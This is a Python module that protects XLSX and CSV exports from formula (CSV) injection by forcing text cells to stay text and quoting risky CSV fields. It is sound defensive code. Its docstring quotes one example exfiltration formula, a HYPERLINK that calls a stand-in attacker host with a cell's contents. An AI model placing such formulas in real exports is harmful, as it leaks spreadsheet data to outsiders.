"""Safe exports: no text we write into a spreadsheet or a CSV file can run as a formula.

Django-free. Every XLSX export saves its workbook with `workbook_bytes` and every CSV export writes
its text cells through `csv_field`, so a comment such as ``=HYPERLINK("http://evil.example/?x="&A1)``
reaches the reader as the text it is (OWASP "CSV injection"; see docs/excel.md, "Safe exports"):

- a text *starts a formula* when its first character is ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return, or a compatibility form of one of them (the full-width ``＝＋－＠`` that a
  Chinese input method types, the small ``﹦``…): NFKC of the first character;
- in XLSX every text cell is written as a text cell (data type ``s``) with the quote prefix set
  (what Excel records when one types ``'=…``), so the value read back is the same text, and editing
  the cell in Excel keeps it text; the formulas an export writes on purpose are named at saving;
- in CSV such a text gets a leading single quote: ``'=HYPERLINK(…)``; `csv_unguard` removes exactly
  that quote again when a CSV file is read;
- numbers, dates and booleans are never touched: a negative number stays a number.
"""

from __future__ import annotations

import io
import unicodedata
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell.cell import ERROR_CODES, Cell, WriteOnlyCell

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"


def starts_formula(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula (its first character, or that
    character's compatibility form, is one of FORMULA_STARTS)."""
    if not text:
        return False
    return text[0] in FORMULA_STARTS or unicodedata.normalize("NFKC", text[0])[:1] in FORMULA_STARTS


def _guarded(text: str) -> bool:
    """Texts that get the quote in CSV: those that start a formula, after any quotes of their own
    (so that ``'=x`` becomes ``''=x`` and `csv_unguard` gives back exactly what was written)."""
    return starts_formula(text.lstrip(QUOTE))


def csv_field(text: str) -> str:
    """A text cell of a CSV file: with a leading single quote if it could start a formula."""
    return QUOTE + text if _guarded(text) else text


def csv_unguard(text: str) -> str:
    """The inverse of `csv_field`: a cell read from a CSV file without the quote `csv_field` added.
    A quote that `csv_field` would not have added (``'abc``, ``'800``) is kept."""
    if text.startswith(QUOTE) and _guarded(text[1:]):
        return text[1:]
    return text


def guard_cell(cell: Cell) -> None:
    """Make a cell holding text a text cell, whatever openpyxl guessed from it (``=…`` a formula,
    ``#N/A`` an error): the value stays the same text. Other cells are left alone."""
    if not isinstance(cell.value, str):
        return
    if cell.data_type != "s" or starts_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def guarded_value(sheet: object, value: object) -> object:
    """What to append to a write-only sheet (`Workbook(write_only=True)`, whose cells cannot be
    guarded after the fact) for `value`: the value itself, or, for a text that `guard_cell` changes,
    the guarded text cell. openpyxl writes a text as text unless it starts with ``=`` or is one of
    its ERROR_CODES, so only such texts, and those `starts_formula` names, need a cell of their own."""
    if not isinstance(value, str) or not (starts_formula(value) or value in ERROR_CODES):
        return value
    cell = WriteOnlyCell(sheet, value)
    guard_cell(cell)
    return cell if cell.quotePrefix else value


def guard_workbook(book: Workbook, formulas: Iterable[Cell] = ()) -> None:
    """Guard every cell of every sheet but `formulas`, the cells the export fills with a formula on
    purpose (``=SUM(E5,E7)`` built from coordinates, never from data)."""
    keep = {(cell.parent.title, cell.coordinate) for cell in formulas}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell, Cell) and (sheet.title, cell.coordinate) not in keep:
                    guard_cell(cell)


def workbook_bytes(book: Workbook, formulas: Iterable[Cell] = ()) -> bytes:
    """The .xlsx bytes of an export's workbook, every text written as text (`guard_workbook`; a
    write-only workbook's cells were guarded as they were appended: `guarded_value`, `guard_cell`)."""
    if not book.write_only:
        guard_workbook(book, formulas)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
